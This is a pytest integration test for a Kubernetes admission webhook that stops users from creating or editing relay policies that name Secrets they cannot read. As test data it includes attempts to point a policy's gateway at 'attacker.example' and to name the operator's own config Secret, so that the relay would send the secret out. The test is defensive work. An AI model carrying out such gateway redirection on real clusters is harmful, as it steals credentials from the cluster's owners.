"""The policy check through the real API server: users impersonated with `kubectl --as`, the chart's
ValidatingWebhookConfiguration (url clientConfig on loopback), the webhook in-process asking the API
server's RBAC authorizer with SubjectAccessReviews.

alice may create policies but not read the Secret smtp; bob may do both; carol may read it through a
group. A policy sends the value of each Secret it names to its gateway: alice must not be able to name it.
"""

from __future__ import annotations

import json
import logging
import subprocess
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any, cast

import pytest
from kubernetes import client

from tests.cluster.controlplane import ControlPlane
from tests.helm.chart import CRDS, find, objects, template
from tests.webhook.conftest import Registration, ThreadedWebhook, wait_for

pytestmark = pytest.mark.cluster

POLICIES = "outboundauthpolicies.outboundrelay.io"


def policy(name: str, secret: str = "smtp", gateway: str = "smtp.example") -> dict[str, Any]:  # noqa: S107
    return {
        "apiVersion": "outboundrelay.io/v1alpha1",
        "kind": "OutboundAuthPolicy",
        "metadata": {"name": name},
        "spec": {
            "type": "PLAIN",
            "user": "u",
            "passwordSecretRef": {"name": secret, "key": "password"},
            "gateway": {"host": gateway, "port": 587},
        },
    }


class Users:
    def __init__(self, control_plane: ControlPlane, namespace: str) -> None:
        self.control_plane = control_plane
        self.namespace = namespace

    def kubectl(self, who: str, *args: str, input: str | None = None) -> subprocess.CompletedProcess[str]:
        user, _, group = who.partition("@")
        impersonate = [f"--as={user}"] + ([f"--as-group={group}"] if group else [])
        return self.control_plane.run(
            "kubectl", *args, "-n", self.namespace, *impersonate, input=input, check=False
        )

    def create(self, who: str, body: dict[str, Any]) -> subprocess.CompletedProcess[str]:
        return self.kubectl(who, "create", "-f", "-", input=json.dumps(body))


@pytest.fixture
def users(control_plane: ControlPlane, k8s_client: client.ApiClient, namespace: str) -> Iterator[Users]:
    control_plane.kubectl("apply", "--server-side", "--force-conflicts", "-f", str(CRDS))
    control_plane.kubectl("wait", "--for=condition=Established", "--timeout=60s", f"crd/{POLICIES}")
    rbac = client.RbacAuthorizationV1Api(k8s_client)
    author = f"policy-author-{uuid.uuid4().hex[:6]}"
    rbac.create_cluster_role(
        cast(
            Any,
            {
                "metadata": {"name": author},
                "rules": [
                    {
                        "apiGroups": ["outboundrelay.io"],
                        "resources": ["outboundauthpolicies"],
                        "verbs": ["get", "list", "create", "update", "patch"],
                    }
                ],
            },
        )
    )
    rbac.create_namespaced_role(
        namespace,
        cast(
            Any,
            {
                "metadata": {"name": "read-smtp"},
                "rules": [
                    {"apiGroups": [""], "resources": ["secrets"], "resourceNames": ["smtp"], "verbs": ["get"]}
                ],
            },
        ),
    )

    def bind(name: str, kind: str, role: str, subjects: list[dict[str, str]]) -> None:
        rbac.create_namespaced_role_binding(
            namespace,
            cast(
                Any,
                {
                    "metadata": {"name": name},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": kind, "name": role},
                    "subjects": subjects,
                },
            ),
        )

    authors = [{"kind": "User", "name": n, "apiGroup": "rbac.authorization.k8s.io"} for n in ("alice", "bob")]
    authors.append({"kind": "Group", "name": "mail-admins", "apiGroup": "rbac.authorization.k8s.io"})
    bind("authors", "ClusterRole", author, authors)
    bind(
        "bob-reads-smtp",
        "Role",
        "read-smtp",
        [{"kind": "User", "name": "bob", "apiGroup": "rbac.authorization.k8s.io"}],
    )
    bind("admins-read-smtp", "Role", "read-smtp", [authors[2]])
    client.CoreV1Api(k8s_client).create_namespaced_secret(
        namespace,
        client.V1Secret(metadata=client.V1ObjectMeta(name="smtp"), string_data={"password": "S3cret"}),
    )
    try:
        yield Users(control_plane, namespace)
    finally:
        rbac.delete_cluster_role(author)


@pytest.fixture
def policy_webhook(
    control_plane: ControlPlane, k8s_client: client.ApiClient, registration: Registration, tmp_path: Path
) -> Iterator[ThreadedWebhook]:
    """The chart's ValidatingWebhookConfiguration beside its MutatingWebhookConfiguration (registration),
    both served by one in-process webhook."""
    url = f"https://127.0.0.1:{registration.port}/mutate-pods"
    manifest = template(
        control_plane,
        tmp_path,
        {"webhook": {"url": url, "certIPAddresses": ["127.0.0.1"]}},
        release=registration.release,
        namespace=registration.operator_namespace,
    )
    (configuration,) = find(objects(manifest), "ValidatingWebhookConfiguration")
    assert configuration["metadata"]["name"] == registration.configuration
    assert configuration["webhooks"][0]["failurePolicy"] == "Fail"
    admission = client.AdmissionregistrationV1Api(k8s_client)
    admission.create_validating_webhook_configuration(cast(Any, configuration))
    try:
        yield registration.start()
    finally:
        registration.stop_all()
        admission.delete_validating_webhook_configuration(registration.configuration)


def _wait_until_checking(users: Users) -> None:
    def checked() -> bool:
        proc = users.kubectl(
            "alice", "create", "--dry-run=server", "-f", "-", input=json.dumps(policy("probe"))
        )
        print(proc.stderr)  # pytest shows the answers when the wait fails
        return "may not get" in proc.stderr

    wait_for(checked, 30, "the API server calls the policy check")


def test_an_author_cannot_name_a_secret_they_cannot_read(
    users: Users, policy_webhook: ThreadedWebhook, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="outbound_operator")
    _wait_until_checking(users)
    ns = users.namespace
    stolen = users.create("alice", policy("steal", gateway="attacker.example"))
    assert stolen.returncode != 0
    refusal = f"OutboundAuthPolicy {ns}/steal: spec.passwordSecretRef names Secret {ns}/smtp, which alice"
    assert f"{refusal} may not get" in stolen.stderr
    # Whether the Secret exists is not told: a name that does not exist gets the same answer.
    missing = users.create("alice", policy("probe2", secret="no-such-secret"))
    assert f"names Secret {ns}/no-such-secret, which alice may not get" in missing.stderr
    assert "not found" not in missing.stderr

    assert users.create("bob", policy("bobs")).returncode == 0
    assert users.create("carol@mail-admins", policy("carols")).returncode == 0  # through her group
    # alice may edit policies, but turning bob's towards her own server is naming his Secret anew.
    moved = users.kubectl(
        "alice",
        "patch",
        POLICIES,
        "bobs",
        "--type=merge",
        "-p",
        '{"spec":{"gateway":{"host":"attacker.example"}}}',
    )
    assert moved.returncode != 0 and "which alice may not get" in moved.stderr
    # Changes that name no Secret anew pass.
    assert users.kubectl("alice", "label", POLICIES, "bobs", "team=mail").returncode == 0
    assert "S3cret" not in stolen.stderr + missing.stderr + moved.stderr
    assert "which alice may not get" in caplog.text  # the webhook's log says who was refused, and why
    assert "S3cret" not in caplog.text


@pytest.mark.parametrize("who", ["alice", "bob"])
def test_no_policy_may_name_the_rendered_secret(
    users: Users, policy_webhook: ThreadedWebhook, who: str
) -> None:
    _wait_until_checking(users)
    proc = users.create(who, policy("dump-all", secret="outbound-relay-config"))
    assert proc.returncode != 0
    assert (
        f"OutboundAuthPolicy {users.namespace}/dump-all: spec.passwordSecretRef names Secret "
        f"{users.namespace}/outbound-relay-config, which the operator renders" in proc.stderr
    )
